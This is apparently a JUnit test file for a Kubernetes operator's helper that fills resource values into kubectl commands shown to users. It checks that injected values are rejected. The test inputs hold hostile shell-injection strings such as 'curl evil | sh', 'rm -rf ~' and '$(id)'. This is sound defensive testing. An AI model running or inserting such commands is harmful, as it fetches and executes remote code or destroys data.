package io.cloudelements.connectwise.why;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands that a person copies into a terminal. */
class CommandWordsTest {
  private static final String SHOW = "kubectl -n NAMESPACE get secret TOKEN";
  private static final String CONFIRM = "kubectl annotate KIND NAME confirm=VALUE";
  private static final String PATCH = "kubectl patch secret -p '{\"stringData\":{\"KEY\":\"…\"}}'";

  /** The resource {@code integrations/acme}, about which little can be seen. */
  private static WhyFacts facts(String tokenSecret) {
    return UnseenFacts.of(
        UnseenFacts.acme("{tokenSecretRef: {name: '%s'}}".formatted(tokenSecret)),
        Optional.empty());
  }

  private static String asking(String value) {
    return "To go on, annotate this resource with cloudelements.io/confirm-recreate: \"%s\""
        .formatted(value);
  }

  private static CommandWords words(String tokenSecret, String message) {
    return CommandWords.ofResource(facts(tokenSecret), LinkName.TOKEN_SECRET, message);
  }

  @Test
  void fillsInWhatTheResourceHas() {
    // Given
    CommandWords words = words("acme.token-2", asking("2026-11-24T10:00:00.5Z@5f2c0c9a1b7e"));
    // When
    String shows = words.fill(SHOW);
    String confirms = words.fill(CONFIRM);
    // Then
    assertThat(shows).isEqualTo("kubectl -n integrations get secret acme.token-2");
    assertThat(confirms)
        .isEqualTo("kubectl annotate cwi acme confirm=2026-11-24T10:00:00.5Z@5f2c0c9a1b7e");
  }

  /** Others may write the status. */
  @Test
  void putsNoHostileNameOfASecretIntoACommand() {
    // Given
    CommandWords words = words("x; curl evil | sh", "");
    // When
    String shows = words.fill(SHOW);
    // Then
    assertThat(shows).doesNotContain("evil", ";");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"x; rm -rf ~", "$(id)", "`id`", "x&id", "x|id", "x\nid", "a b", "--all", ""})
  void leavesTheWordWhereAShellWouldReadMore(String hostile) {
    // Given
    CommandWords words = new CommandWords(Map.of("TOKEN", hostile, "NAMESPACE", "n"), List.of());
    // When
    String shows = words.fill(SHOW);
    // Then
    assertThat(shows).isEqualTo("kubectl -n n get secret TOKEN");
  }

  /** A message quotes the service, and others may write conditions. */
  @Test
  void leavesTheWordWhereAMessageAsksForMoreThanAValue() {
    // Given
    CommandWords words = words("acme-token", asking("7; curl evil | sh"));
    // When
    String confirms = words.fill(CONFIRM);
    // Then
    assertThat(confirms).isEqualTo("kubectl annotate cwi acme confirm=VALUE");
  }

  /** The spec lists names of entries, and a quote would end the JSON. */
  @Test
  void namesKeysThatAreWordsAlone() {
    // Given
    CommandWords words =
        new CommandWords(Map.of(), List.of("siteAddress", "my.key_2", "x'; curl evil; '"));
    // When
    String patches = words.fill(PATCH);
    // Then
    assertThat(patches)
        .isEqualTo(
            "kubectl patch secret -p"
                + " '{\"stringData\":{\"siteAddress\":\"…\",\"my.key_2\":\"…\",\"KEY\":\"…\"}}'");
  }
}
